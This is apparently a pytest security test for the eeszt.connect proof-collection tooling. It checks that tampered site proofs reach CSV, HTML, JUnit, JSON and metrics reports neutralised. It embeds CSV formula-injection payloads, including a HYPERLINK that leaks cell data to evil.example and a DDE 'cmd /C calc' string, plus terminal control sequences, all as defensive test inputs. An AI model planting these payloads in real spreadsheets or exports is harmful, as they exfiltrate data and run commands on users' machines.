# Copyright: (c) 2026, eeszt.connect developers
# GNU General Public License v3.0+ (see COPYING or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later
"""Issue 21, attacks 3 and 4: what a site writes into its proof reaches no report file raw.

Two demo sites against a private lab: certificates, TLS client and the connection check, then each site's
proof is rewritten on the site before the proofs stage collects it. That is the path a compromised (or
broken) site has: when collect_proofs.yml runs on its own (not in the same play as the check), the stage
lists the site's proof directory and fetches each new proof; the SHA-256 it checks the fetched bytes
against is the one the site's own listing reports, so a proof rewritten on the site before it was collected
is archived and sealed as it is. (In the same play as the check, the proof comes from the check's result
and a rewritten file is refused: the SHA-256 differs.) The rewritten proofs stay type-correct: strings
where strings belong, a failure object with a category of DESIGN.md's list.

* attack 3 (site001): the host, the failure message and hint, the certificate's serial and subject and the
  failing endpoint start with ``=HYPERLINK(...)``, ``+cmd|' /C calc'!A0``, ``@SUM(1)``, ``-2+3`` (the serial ``-2F3``), tab,
  carriage return: each reaches ``report.csv`` neutralised with a leading ``'`` (OWASP), and the report's
  own numbers (days left, proofs) stay numbers;
* attack 4 (site002): ESC, NUL, VT (and FF, DEL, a C1 CSI) in the failure message and hint: ``junit.xml``
  still parses with ElementTree and carries U+FFFD in their place, ``report.csv`` holds none of them raw,
  ``report.html``, ``index.json`` and ``metrics.prom`` stay well-formed (``promtool check metrics`` when it
  is installed).
"""

import csv
import io
import json
import os
import subprocess
import xml.etree.ElementTree as ET

import prerequisites
import pytest

ROOT = os.path.dirname(os.path.dirname(os.path.dirname(os.path.abspath(__file__))))
DEMO = os.path.join(ROOT, "inventories", "demo")
HOSTS = ("site001", "site002")
FORMULA = ("=", "+", "-", "@", "\t", "\r")
OWN_NUMBERS = ("certificate_days_left", "proofs", "proof_age_days")
HYPERLINK = "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Details\")"
CMD = "+cmd|' /C calc'!A0"
CONTROL = "\x1b[31mred\x1b[0m \x00NUL \x0bVT \x0cFF \x7fDEL \x9b2J"

pytestmark = pytest.mark.slow


class Lab:

    def __init__(self, root, run_playbook, port):
        self.lab_dir = root / "lab"
        self.archive = self.lab_dir / "proofs"
        self.port = port
        self.run_playbook = run_playbook
        self.env = {"EESZT_LAB_DIR": str(self.lab_dir), "EESZT_LAB_WAF_PORT": str(port),
                    "EESZT_DEMO_SITES": str(len(HOSTS))}
        self.variables = {"eeszt_proofs_archive_dir": str(self.archive),
                          "eeszt_proofs_ca_file": str(self.lab_dir / "pki" / "client-ca-bundle.pem")}

    def play(self, playbook, *args, **extra):
        variables = dict(self.variables)
        variables.update(extra)
        return self.run_playbook(playbook, extra_vars=variables, env=self.env, args=["-i", DEMO] + list(args))

    def site_proofs(self, host):
        return sorted((self.lab_dir / "sites" / host / "var" / "lib" / "eeszt" / "proofs").glob("*.json"))

    def report(self, name):
        return (self.archive / name).read_bytes()


def rewrite(path, change):
    """Rewrite a proof on the site as a site can: the same file, type-correct JSON (\\u escapes for controls)."""
    document = json.loads(path.read_text(encoding="utf-8"))
    change(document)
    path.write_text(json.dumps(document, indent=2, sort_keys=True, ensure_ascii=True) + "\n", encoding="ascii")


def fail_with(document, message, hint, endpoint=None):
    """Make the proof a failed check of its first endpoint, with this message and hint."""
    first = document["endpoints"][0]
    if endpoint is not None:
        first["name"] = endpoint
    failure = {"category": "http_status", "endpoint": first["name"], "step": "http", "message": message,
               "hint": hint}
    first.update(passed=False, failure=dict(failure))
    document.update(passed=False, failure=failure)


def attack_formulas(document):
    fail_with(document, CMD, "@SUM(1)", endpoint="-2+3")
    document["host"] = HYPERLINK
    document["client_certificate"]["serial"] = "-2F3"  # a negative serial in hex (the schema's form)
    document["client_certificate"]["subject"] = "\t=1+1,CN=lab"


def attack_controls(document):
    fail_with(document, "HTTP 503 " + CONTROL, "\r" + CONTROL)


@pytest.fixture(scope="module")
def lab(tmp_path_factory, run_playbook, pick_port, stop_lab):
    lab = Lab(tmp_path_factory.mktemp("untrusted-outputs"), run_playbook, pick_port())
    result = lab.play("lab.yml", eeszt_lab_state="started", eeszt_lab_waf_port=lab.port)
    assert result.ok, result.output
    try:
        for stage in ("deploy_certificate.yml", "configure_tls.yml", "check_connection.yml"):
            result = lab.play(stage)
            assert result.ok, result.output
        for host, change in zip(HOSTS, (attack_formulas, attack_controls)):
            proofs = lab.site_proofs(host)
            assert len(proofs) == 1, proofs
            rewrite(proofs[0], change)
        # The proofs stage on its own, as a vendor schedules it after the checks.
        result = lab.play("collect_proofs.yml")
        assert result.ok, result.output
        yield lab
    finally:
        result = stop_lab(lab.lab_dir, lab.port, env=lab.env, args=["-i", DEMO])
        assert result.ok, result.output


def csv_rows(lab):
    text = lab.report("report.csv").decode("utf-8")
    return text, dict((row["host"], row) for row in csv.DictReader(io.StringIO(text, newline=""), strict=True))


def test_both_rewritten_proofs_are_archived_and_their_sites_failed(lab):
    index = json.loads(lab.report("index.json").decode("utf-8"))
    statuses = sorted((s["site_id"], s["status"], (s["failure"] or {}).get("category")) for s in index["sites"])
    assert statuses == [("100001001", "failed", "http_status"), ("100001002", "failed", "http_status")], statuses
    assert len(list(lab.archive.glob("100001/*/*.json"))) == 2


def test_attack_3_formula_cells_reach_report_csv_neutralised(lab):
    dummy, rows = csv_rows(lab)
    row = rows["'" + HYPERLINK]
    assert row["failure_message"] == "'" + CMD
    assert row["hint"] == "'@SUM(1)"
    assert row["certificate_serial"] == "'-2F3"
    # The report's own numbers stay numbers.
    assert row["proofs"] == "1"
    assert int(row["certificate_days_left"]) > 300
    for line in rows.values():
        for column, cell in line.items():
            if column not in OWN_NUMBERS:
                assert not cell.startswith(FORMULA), (column, cell)


def test_attack_3_the_other_files_keep_the_text_escaped_for_their_format(lab):
    html = lab.report("report.html").decode("utf-8")
    assert "=HYPERLINK(&quot;http://evil.example/?leak=&quot;&amp;A1,&quot;Details&quot;)" in html
    junit = ET.fromstring(lab.report("junit.xml"))
    names = [case.get("name") for case in junit.iter("testcase")]
    assert "100001001 (%s)" % HYPERLINK in names, names


def test_attack_4_control_characters_leave_junit_parseable_and_report_csv_clean(lab):
    junit = ET.fromstring(lab.report("junit.xml"))
    failures = [case.find("failure") for case in junit.iter("testcase") if case.get("name").startswith("100001002")]
    assert len(failures) == 1 and failures[0] is not None
    clean = "HTTP 503 \ufffd[31mred\ufffd[0m \ufffdNUL \ufffdVT \ufffdFF \ufffdDEL \ufffd2J"
    assert failures[0].get("message") == clean
    assert failures[0].text.startswith(clean + "\nendpoint: health\nstage: check\nhint: \r\ufffd[31mred"), \
        repr(failures[0].text)
    text, rows = csv_rows(lab)
    for character in "\x00\x1b\x0b\x0c\x7f\x9b":
        assert character not in text, repr(character)
    row = [r for r in rows.values() if r["site_id"] == "100001002"][0]
    assert row["failure_message"] == clean
    assert row["hint"] == "'\r\ufffd[31mred\ufffd[0m \ufffdNUL \ufffdVT \ufffdFF \ufffdDEL \ufffd2J"


def test_attack_4_html_index_and_metrics_stay_well_formed(lab):
    html = lab.report("report.html").decode("utf-8")
    for character in "\x00\x1b\x0b\x0c\x7f\x9b":
        assert character not in html, repr(character)
    document = json.loads(lab.report("index.json").decode("utf-8"))
    site = [s for s in document["sites"] if s["site_id"] == "100001002"][0]
    # index.json keeps the site's words exactly; JSON escapes the control characters.
    assert site["failure"]["message"] == "HTTP 503 " + CONTROL
    assert "\\u001b" in lab.report("index.json").decode("utf-8")
    metrics = lab.report("metrics.prom").decode("utf-8")
    for character in "\x00\x1b\x0b\x0c\x7f\x9b":
        assert character not in metrics, repr(character)
    # Last, after every other assertion: skips (fails under CI=true) without promtool.
    promtool = prerequisites.need("promtool")
    checked = subprocess.run([promtool, "check", "metrics"], input=lab.report("metrics.prom"),
                             stdout=subprocess.PIPE, stderr=subprocess.PIPE, timeout=60, check=False)
    assert checked.returncode == 0 and not checked.stderr, checked.stderr
